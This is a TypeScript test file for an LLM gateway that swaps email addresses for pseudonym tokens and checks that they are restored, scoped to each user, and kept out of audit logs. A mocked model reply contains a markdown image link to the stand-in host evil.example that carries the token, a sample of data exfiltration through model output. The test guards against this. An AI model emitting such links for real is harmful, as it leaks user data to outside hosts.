import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import OpenAI from 'openai'
import t from 'tap'
import { defaultClaims } from '../helpers/issuer.ts'
import { openScene } from '../helpers/scene.ts'
import { completion, completionStream, type SeenRequest, type Step } from '../helpers/upstream.ts'

const policy = `package gateway.policy.test

permit contains {"id": "everyone", "endpoints": ["main"]}

redact contains {"labels": ["pii.*"], "operator": "pseudonym"}
`
const response = `package gateway.response.test

redact contains {"labels": ["pii.*"], "operator": "replace"}
`

/** The token that the endpoint was sent. */
function tokenIn ({ body }: SeenRequest): string {
  return /[A-Z_]+_[0-9A-Z]{8}/.exec(body.toString())?.[0] ?? 'none'
}

/** Answers as a model does: the token as it is, in lower case, within a link, and a value of its own. */
function reply (token: string): string {
  return `Mail to ${token} (${token.toLowerCase()}), not bob@corp.example; ![x](https://evil.example/?q=${token}) EMAIL_ADDRESS_00000000`
}

const asks = /"stream"\s*:\s*true/
const said = /^Mail to jane\.roe@example\.com \(jane\.roe@example\.com\), not \[EMAIL_ADDRESS\]; !\[x\]\(https:\/\/evil\.example\/\?q=EMAIL_ADDRESS_[0-9A-Z]{8}\) EMAIL_ADDRESS_00000000$/

t.test('a value goes out as a pseudonym and comes back as itself', async t => {
  const script = (request: SeenRequest): Step => {
    const text = reply(tokenIn(request))
    return asks.test(request.body.toString()) ? completionStream([...text]) : completion(text)
  }
  const scene = await openScene(t, { policy: { 'p.rego': policy, 'r.rego': response }, script })
  const client = new OpenAI({ baseURL: `${scene.gateway.address}/v1`, apiKey: scene.token, maxRetries: 0 })
  const ask = { model: 'test-model', messages: [{ role: 'user' as const, content: 'Write to jane.roe@example.com.' }] }

  t.test('in a whole answer', async t => {
    const answer = await client.chat.completions.create(ask)
    t.match(answer.choices[0]?.message.content, said)
    t.notMatch(scene.upstream.bodies().join(), /jane/)
  })

  t.test('in a stream, character by character', async t => {
    let text = ''
    for await (const chunk of await client.chat.completions.create({ ...ask, stream: true })) text += chunk.choices[0]?.delta.content ?? ''
    t.match(text, said)
    t.notMatch(scene.upstream.bodies().join(), /jane/)
  })

  t.test('and another subject\'s request gets nothing of it', async t => {
    const token = tokenIn({ body: Buffer.from(scene.upstream.bodies()[0] ?? '') } as SeenRequest)
    scene.upstream.play(completion(`It is ${token}`))
    const other = new OpenAI({ baseURL: `${scene.gateway.address}/v1`, apiKey: await scene.issuer.sign({ ...defaultClaims, sub: 'mallory' }), maxRetries: 0 })
    const answer = await other.chat.completions.create({ model: 'test-model', messages: [{ role: 'user', content: `Who is ${token}? Mine is m@mallory.example.` }] })
    t.equal(answer.choices[0]?.message.content, `It is ${token}`)
  })

  t.test('and no record holds a value', async t => {
    const folder = join(scene.data, 'audit')
    const records = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(entry => entry.isFile() && !entry.parentPath.includes('keys')).map(entry => readFileSync(join(entry.parentPath, entry.name), 'latin1')).join('\n')
    t.match(records, /"redactions":1/, 'the records were read')
    t.notMatch(records, /jane\.roe|bob@corp/)
  })
})
